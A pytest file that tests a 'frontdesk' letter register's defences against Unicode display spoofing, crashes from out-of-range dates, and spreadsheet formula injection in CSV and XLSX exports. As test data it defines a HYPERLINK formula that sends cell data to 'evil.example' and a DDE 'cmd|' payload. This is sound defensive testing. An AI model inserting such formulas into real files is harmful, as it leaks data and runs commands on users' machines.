"""What the register shows and exports cannot be made to lie or to run, tried as
an insider would: a subject that reads backwards on screen (U+202E) or hides a
word (U+200B), an out-of-range date to crash a command, and cells that a
spreadsheet would run as formulas (``=HYPERLINK``, ``=cmd|…``, ``+``/``-``/``@``).

The ``frontdesk`` program runs as a process of its own; only ``sqlite3``,
``csv`` and ``zipfile`` look at what it left. The application's code is not
imported.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
import zipfile
from datetime import datetime, timedelta
from pathlib import Path

import pytest

FRONTDESK = Path(sys.executable).parent / "frontdesk"
PASSWORD = "Honest-output-2026"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点此核对")'
DDE = "=cmd|' /c calc'!A1"


def frontdesk(folder: Path, *args: str) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if not k.startswith("FRONTDESK_")}
    env.update(FRONTDESK_CONFIG=str(folder / "settings.toml"), FRONTDESK_LANG="en",
               FRONTDESK_OPERATOR="admin", FRONTDESK_PASSWORD=PASSWORD)
    return subprocess.run([str(FRONTDESK), "--db", str(folder / "fd.db"), *args], env=env,
                          capture_output=True, text=True, timeout=120)


@pytest.fixture
def office(tmp_path) -> Path:
    (tmp_path / "settings.toml").write_text(f'exports_dir = "{tmp_path / "exports"}"\n', encoding="utf-8")
    assert frontdesk(tmp_path, "init", "--admin", "admin").returncode == 0
    return tmp_path


def letter(folder: Path, subject: str, sender: str = "李四") -> subprocess.CompletedProcess:
    path = folder / "letter.json"
    path.write_text(json.dumps({
        "received_at": (datetime.now() - timedelta(hours=1)).strftime("%Y-%m-%d %H:%M"), "channel": "post",
        "kind": "signed", "sender": {"name": sender, "phone": "13800138002"}, "subject": subject,
        "content": "详见来信"}), encoding="utf-8")
    return frontdesk(folder, "letter", "add", str(path))


def letters_in(folder: Path) -> list[str]:
    with sqlite3.connect(folder / "fd.db") as conn:
        return [row[0] for row in conn.execute("SELECT subject FROM letters")]


@pytest.mark.parametrize("subject", ["反映\u202e款拨未\u202c问题", "举报\u200b张德明", "\ufeff来信", "x\u2066y\u2069"])
def test_a_subject_that_renders_other_than_it_is_is_refused(office, subject):
    done = letter(office, subject)
    assert done.returncode == 1
    assert done.stderr.count("\n") == 1 and "subject" in done.stderr and "Traceback" not in done.stderr
    assert letters_in(office) == []


@pytest.mark.parametrize("args", [
    ["report", "daily", "--end", "0001-01-01 00:00"], ["report", "daily", "--end", "9999-12-31 23:59"],
    ["lookup", "张三", "--to", "0001-01-01"], ["visit", "list", "--date", "9999-12-31"],
    ["duty", "roster", "add", "r", "--start", "0001-01-01", "--end", "2026-05-02", "--unit", "区教育局"],
])
def test_a_date_off_the_calendar_is_one_line_never_a_traceback(office, args):
    done = frontdesk(office, *args)
    assert done.returncode == 1, done.stdout
    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr + done.stdout


def test_formulas_in_a_letter_come_out_of_the_csv_as_text(office):
    for subject in (HYPERLINK, DDE, "+1+1", "-1+1", "@SUM(1+1)"):
        assert letter(office, subject, sender="=1+1").returncode == 0
    assert frontdesk(office, "letter", "export", str(office / "letters.csv")).returncode == 0
    rows = list(csv.reader(io.StringIO((office / "letters.csv").read_text(encoding="utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert {row[5] for row in rows[1:]} == {"'" + s for s in (HYPERLINK, DDE, "+1+1", "-1+1", "@SUM(1+1)")}


def test_a_roster_with_formulas_exports_no_formula(office):
    assert frontdesk(office, "duty", "roster", "add", "劳动节", "--start", "2026-05-01", "--end", "2026-05-05",
                     "--unit", "区教育局").returncode == 0
    table = office / "edu.csv"
    table.write_text("日期,姓名,职务,电话\n"
                     f'2026-05-01,"{DDE}",带班领导,+86 13800138000\n'
                     f'2026-05-02,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",@值班,-1\n', encoding="utf-8")
    done = frontdesk(office, "duty", "roster", "import", "劳动节", str(table), "--unit", "区教育局")
    assert done.returncode == 0, done.stderr
    out = office / "roster.xlsx"
    assert frontdesk(office, "duty", "roster", "export", "劳动节", "-o", str(out)).returncode == 0
    with zipfile.ZipFile(out) as archive:
        sheets = [archive.read(name).decode("utf-8") for name in archive.namelist()
                  if name.startswith("xl/worksheets/sheet")]
        strings = archive.read("xl/sharedStrings.xml").decode("utf-8") if "xl/sharedStrings.xml" in \
            archive.namelist() else ""
    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
    written = strings + "".join(sheets)
    assert "cmd|" in written and "HYPERLINK" in written  # kept, as text
